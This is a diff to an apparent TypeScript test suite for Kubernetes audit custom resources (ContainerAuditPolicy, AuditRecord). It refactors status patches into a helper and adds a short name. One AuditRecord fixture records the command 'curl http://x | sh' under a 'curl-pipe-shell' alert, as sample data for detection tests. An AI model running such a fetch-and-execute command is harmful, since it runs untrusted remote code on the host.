@@ -32,6 +32,11 @@ function row(table: string, name: string): Record<string, string> {
   );
 }
 
+/** Writes status through the status subresource, as the operator will. */
+async function patchStatus(target: string[], patch: object): Promise<void> {
+  await kubectlOk(['patch', ...target, '--subresource=status', '--type=merge', '-p', JSON.stringify(patch)]);
+}
+
 beforeAll(async () => {
   await kubectlOk(['apply', '--server-side', '-f', CRDS]);
   await kubectlOk(['wait', '--for=condition=Established', '--timeout=60s', '-f', CRDS]);
@@ -52,7 +57,14 @@ describe('CustomResourceDefinitions', () => {
   );
 
   it('answers to the short names', async () => {
-    for (const name of ['auditpolicy', 'cap', 'containerauditpolicies', 'ar', 'auditrecords']) {
+    for (const name of [
+      'auditpolicy',
+      'auditpolicies',
+      'cap',
+      'containerauditpolicies',
+      'ar',
+      'auditrecords',
+    ]) {
       await kubectlOk(['get', name, '-A']);
     }
   });
@@ -79,33 +91,23 @@ describe('ContainerAuditPolicy examples', () => {
   });
 
   it('`kubectl get auditpolicies` shows ready, matched pods, audited containers, commands and age', async () => {
-    await kubectlOk(
-      [
-        'patch',
-        'cap',
-        'production-shells',
-        '--subresource=status',
-        '--type=merge',
-        '--patch-file=/dev/stdin',
-      ],
-      JSON.stringify({
-        status: {
-          observedGeneration: 1,
-          matchedPods: 3,
-          auditedContainers: 4,
-          commandsRecorded: 57,
-          conditions: [
-            {
-              type: 'Ready',
-              status: 'True',
-              reason: 'Audited',
-              message: 'all selected containers are audited',
-              lastTransitionTime: '2026-11-29T10:00:00Z',
-            },
-          ],
-        },
-      }),
-    );
+    await patchStatus(['cap', 'production-shells'], {
+      status: {
+        observedGeneration: 1,
+        matchedPods: 3,
+        auditedContainers: 4,
+        commandsRecorded: 57,
+        conditions: [
+          {
+            type: 'Ready',
+            status: 'True',
+            reason: 'Audited',
+            message: 'all selected containers are audited',
+            lastTransitionTime: '2026-11-29T10:00:00Z',
+          },
+        ],
+      },
+    });
     const table = await kubectlOk(['get', 'auditpolicies']);
     expect(columns(table)).toEqual([
       'NAME',
@@ -219,36 +221,24 @@ describe('AuditRecord', () => {
 
   it('`kubectl get auditrecords -A` shows pod, container, node, commands and the last command', async () => {
     await kubectlOk(['apply', '--server-side', '-f', '-'], record('web-0-app-4242-1'));
-    await kubectlOk(
-      [
-        'patch',
-        'ar',
-        'web-0-app-4242-1',
-        '-n',
-        'shop',
-        '--subresource=status',
-        '--type=merge',
-        '--patch-file=/dev/stdin',
-      ],
-      JSON.stringify({
-        status: {
-          phase: 'Active',
-          commands: [
-            { seq: 1, time: '2026-11-29T10:00:01Z', pid: 4242, uid: 0, command: 'ls -la /' },
-            {
-              seq: 2,
-              time: '2026-11-29T10:00:05Z',
-              pid: 4242,
-              uid: 0,
-              command: 'curl http://x | sh',
-              alert: { name: 'curl-pipe-shell', severity: 'high' },
-            },
-          ],
-          counts: { commands: 2, alerts: 1 },
-          lastCommandTime: '2026-11-29T10:00:05Z',
-        },
-      }),
-    );
+    await patchStatus(['ar', 'web-0-app-4242-1', '-n', 'shop'], {
+      status: {
+        phase: 'Active',
+        commands: [
+          { seq: 1, time: '2026-11-29T10:00:01Z', pid: 4242, uid: 0, command: 'ls -la /' },
+          {
+            seq: 2,
+            time: '2026-11-29T10:00:05Z',
+            pid: 4242,
+            uid: 0,
+            command: 'curl http://x | sh',
+            alert: { name: 'curl-pipe-shell', severity: 'high' },
+          },
+        ],
+        counts: { commands: 2, alerts: 1 },
+        lastCommandTime: '2026-11-29T10:00:05Z',
+      },
+    });
     const table = await kubectlOk(['get', 'auditrecords', '-A']);
     expect(columns(table)).toEqual([
       'NAMESPACE',
